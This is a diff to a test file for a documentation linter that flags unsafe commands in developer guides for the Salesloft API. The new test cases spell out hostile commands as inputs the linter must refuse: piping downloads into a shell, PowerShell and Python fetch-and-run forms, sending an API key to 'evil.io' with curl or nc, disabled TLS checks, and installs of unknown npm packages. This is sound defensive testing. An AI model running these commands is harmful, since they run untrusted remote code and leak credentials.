@@ -1,4 +1,4 @@
-// cspell:ignore salesl cript
+// cspell:ignore salesl cript gunzip busybox scriptblock
 import {describe, expect, test} from 'vitest';
 import {textProblems} from '../../../../../plugins/lib/guide-checks/textProblems';
 
@@ -37,7 +37,7 @@ const PUBLISHED: readonly Refused[] = [
     'a download for a shell',
     GUIDE,
     bash('curl -sS https://developers.salesloft.com/install | sh'),
-    `${GUIDE}:2 \`| sh\` runs what a host sends. Save it to a file, and run that in a second step. (no-pipe-into-shell)`,
+    `${GUIDE}:2 \`| sh\` can run what a host sends. Save it to a file, and run that in a second step. (no-pipe-into-shell)`,
   ],
   [
     'a user before the host',
@@ -129,16 +129,76 @@ const VARIANTS: readonly Refused[] = [
   ['a substitution', SAMPLE, 'sh -c "$(curl -fsSL a)"', 'no-pipe-into-shell'],
   ['a substituted file', SAMPLE, 'bash <(curl a)', 'no-pipe-into-shell'],
   ['a pipe in the words of a point', GUIDE, '<Unverified what="Run curl a | sh." />', 'no-pipe-into-shell'],
+  ...[
+    ...[
+      'curl a | $SHELL',
+      'curl a | "${SHELL}" -s',
+      'curl a | xargs -n1 bash',
+      'curl a | busybox sh',
+      'curl a | at now',
+    ],
+    ...[
+      'curl a | gunzip | tar xO | sh',
+      'curl a \\\n  |& ssh host',
+      'curl a | tee >(sh)',
+      'curl "a?b=1&c" | make -f -',
+    ],
+    ...['bash < <(curl a)', '. <(curl a)', 'eval `wget a`', '$(curl a)', 'x=$(curl a); eval "$x"', 'bash <<< "$x"'],
+    ...['bash -c "$x"', "iex ((New-Object Net.WebClient).DownloadString('a'))", '& ([scriptblock]::Create((irm a)))'],
+    ...['python3 -c "exec(urlopen(a).read())"', "import('https://api.salesloft.com/a.js')", 'http a.io | sh'],
+    ...['deno run https://api.salesloft.com/a.ts', 'curl a | docker run -i b', "curl a | sed 's/a/b/' | sh"],
+  ].map((command): Refused => [`the command ${command}`, GUIDE, bash(command), 'no-pipe-into-shell']),
+  ...[
+    ...[
+      `curl "$BASE_URL/v2/me" ${KEY}`,
+      `curl $H.$D/v2/me ${KEY}`,
+      `API=https://api.salesloft.com\ncurl "$API@evil.io" ${KEY}`,
+      `B=evil.io\ncurl "$B/v2/me" ${KEY}`,
+    ],
+    ...[`curl -sS evil.io ${KEY}`, 'http POST evil.io/v2/me "Authorization:Bearer $SALESLOFT_API_KEY"'],
+    'printf "$SALESLOFT_API_KEY" | nc evil.io 80',
+  ].map((command): Refused => [`a key in ${command}`, GUIDE, bash(command), 'sample-hosts']),
+  ...['`${BASE}/v2/me`', "BASE + '/v2/me'", "'https://' + host"].map((url): Refused => [
+    `a key for ${url}`,
+    GUIDE,
+    js(`fetch(${url}, {key: process.env.SALESLOFT_API_KEY})`),
+    'sample-hosts',
+  ]),
+  ...[
+    ...['curl --resolve api.salesloft.com:443:192.0.2.1', 'curl -sSk "https://a.example/?b=1&c=2"', 'curl -x a:80 b'],
+    ...['curl "a?b=1&c" \\\n  --insecure', 'wget --no-check-certificate a', 'requests.get(a, verify=False)'],
+  ].map((command): Refused => [`an unknown server by ${command}`, GUIDE, bash(command), 'checked-hosts']),
+  ...['npx evil', 'npx -y @evil/a@1', 'npm install evil', '{"command": "npx", "args": ["-y", "evil"]}'].map(
+    (command): Refused => [`an unknown package by ${command}`, GUIDE, bash(command), 'Readers would run the package'],
+  ),
 ];
 
 const ALLOWED: readonly (readonly [file: string, text: string])[] = [
   [GUIDE, 'A developer 👩\u200D💻 likes ❤\uFE0F.'],
   [GUIDE, bash('curl -sS "https://api.salesloft.com/v2/me" \\', `  ${KEY}`)],
   [SAMPLE, `API=\${SALESLOFT_API_URL:-https://api.salesloft.com}\ncurl "$API/v2/me" ${KEY} -o me.json`],
+  [SAMPLE, `API=https://api.salesloft.com\ncurl "$API$1" "\${more[@]}" -o "$FOLDER/me.json" ${KEY}`],
   [SAMPLE, `curl http://127.0.0.1:\${PORT}/ ${KEY}\ncurl https://localhost:8444/ ${KEY}\ncurl http://[::1]:80/ ${KEY}`],
   [SAMPLE, `curl https://crm.larkfield.example/ ${KEY}`],
   [GUIDE, '```json other\n{"url": "https://linkedin.example/in/a", "host": "kits.example"}\n```'],
   [GUIDE, bash('curl -sS a -o a.sh || exit 1', 'bash a.sh', 'curl -sS a | python3 -m json.tool', 'curl a | jq .')],
+  [
+    GUIDE,
+    bash(
+      "curl a | jq '.data[] | .id' | head",
+      'x="$(curl a)"',
+      'if [ "$(curl a)" = 1 ]; then',
+      '. ./key && node a.mjs',
+    ),
+  ],
+  [
+    GUIDE,
+    bash(
+      'curl a -d \'{"b": "c | d"}\' |',
+      "  python3 -c 'import json'",
+      'npx -y https://developers.salesloft.com/mcp.tgz',
+    ),
+  ],
   [GUIDE, '[`/llms.txt`](pathname:///llms.txt), [a](/docs/), [b](#b), [salesloft.mjs](https://github.com/a/b)'],
   [
     GUIDE,
